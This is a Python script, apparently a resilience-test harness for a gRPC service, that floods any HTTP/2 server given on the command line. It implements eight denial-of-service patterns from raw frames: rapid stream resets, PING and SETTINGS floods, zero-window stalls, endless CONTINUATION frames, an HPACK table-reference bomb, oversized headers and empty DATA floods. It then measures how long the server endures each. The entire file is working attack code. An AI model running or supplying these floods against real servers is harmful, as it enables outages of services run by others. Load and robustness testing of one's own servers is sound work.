#!/usr/bin/python3
"""Speaks HTTP/2 as nobody should, to see what a server lets it do.

    h2_abuse.py KIND HOST:PORT SECONDS [again]

One connection of that kind for so long, or one after the other; begins when a
line comes by stdin.  Prints what was sent, how long the server suffered the
longest connection (ms; -1: until the end) and how many there were.  Kinds: see
KINDS."""
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS = 0x4
PATH = b"/flywheel.v1.StatusService/GetStatus"
BATCH = 200  # frames sent at once


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
            + struct.pack(">I", stream) + payload)


def number(n, prefix):
    """An HPACK integer whose first byte has `prefix` bits of its own."""
    top = (1 << prefix) - 1
    if n < top:
        return bytes([n])
    out, n = bytes([top]), n - top
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def text(s):
    return number(len(s), 7) + s


def headers(path=PATH, more=b""):
    """A gRPC request's headers (RFC 7541, without indexing)."""
    return (b"\x83\x86" + b"\x04" + text(path) + b"\x01" + text(b"a")
            + b"\x0f\x10" + text(b"application/grpc")
            + b"\x00" + text(b"te") + text(b"trailers") + more)


def resets():
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, i, headers())
                       + frame(RST, 0, i, struct.pack(">I", 8))
                       for i in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


def pings():
    while True:
        yield frame(PING, 0, 0, b"flywheel") * BATCH


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * BATCH


def windows():
    """Streams that are never allowed an answer."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, i, headers())
                       + frame(DATA, 1, i, bytes(5))
                       for i in range(stream, stream + 2 * BATCH, 2))
        stream += 2 * BATCH


def continuations():
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, headers())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-a")
                    + text(b"b" * 4000))


def bombs():
    """One table entry, named again and again: small here, large there."""
    stream = 1
    while True:
        entry = b"\x40" + text(b"x-bomb") + text(b"b" * 3900)
        yield frame(HEADERS, END_HEADERS, stream,
                    headers(more=entry + b"\xbe" * 8000))
        stream += 2


def metadata():
    """More than the 8 KiB of headers that are allowed."""
    stream = 1
    while True:
        more = b"\x00" + text(b"x-big") + text(b"m" * 9000)
        yield frame(HEADERS, END_HEADERS, stream, headers(more=more))
        stream += 2


def empties():
    yield frame(HEADERS, END_HEADERS, 1, headers())
    while True:
        yield frame(DATA, 0, 1) * BATCH


KINDS = {"resets": resets, "pings": pings, "settings": settings,
         "windows": windows, "continuations": continuations, "bombs": bombs,
         "metadata": metadata, "empties": empties}


def connect(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=10)


def flood(kind, address, seconds):
    """(bytes sent, milliseconds until it was cut or None)"""
    try:
        s = connect(address)
    except OSError:
        return 0, 0
    begun = time.monotonic()
    sent = 0
    todo = PREFACE + frame(SETTINGS, 0, 0)
    source = KINDS[kind]()
    s.setblocking(False)
    try:
        while time.monotonic() < begun + seconds:
            readable, writable, _ = select.select([s], [s], [], 0.1)
            if readable and s.recv(1 << 16) == b"":
                raise ConnectionError
            if writable:
                todo = todo or next(source)
                n = s.send(todo)
                sent, todo = sent + n, todo[n:]
    except OSError:
        return sent, 1000 * (time.monotonic() - begun)
    finally:
        s.close()
    return sent, None


def main():
    if len(sys.argv) not in (4, 5) or sys.argv[1] not in KINDS:
        sys.exit(__doc__ + "\n" + " ".join(KINDS))
    print("ready", flush=True)
    sys.stdin.readline()
    end = time.monotonic() + float(sys.argv[3])
    sent, longest, n = 0, 0, 0
    while n == 0 or (len(sys.argv) == 5 and time.monotonic() < end):
        # one that began at the very end says nothing of how long it would stay
        bytes_, cut = flood(sys.argv[1], sys.argv[2],
                            max(1.0, end - time.monotonic()))
        sent, n = sent + bytes_, n + 1
        longest = -1 if cut is None or longest < 0 else max(longest, cut)
    print(sent, round(longest), n)


if __name__ == "__main__":
    main()
